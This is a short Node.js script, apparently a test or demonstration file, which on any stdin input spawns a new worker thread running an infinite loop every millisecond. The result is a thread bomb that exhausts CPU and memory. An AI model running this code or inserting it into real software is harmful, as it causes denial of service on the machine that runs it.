// Starts an endless number of worker threads.
import { Worker } from 'node:worker_threads';

process.stdin.once('data', () => {
  setInterval(() => new Worker('for (;;);', { eval: true }), 1);
});
